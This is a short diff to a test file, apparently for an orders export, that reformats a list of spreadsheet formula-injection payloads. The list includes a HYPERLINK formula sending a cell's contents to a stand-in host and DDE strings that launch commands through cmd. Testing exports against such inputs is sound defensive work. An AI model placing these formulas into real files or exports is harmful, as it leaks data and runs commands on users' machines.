@@ -16,7 +16,7 @@ from tests.factories import UserFactory, place_order
 from tests.orders.staff_helpers import role_member
 
 PAYLOADS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
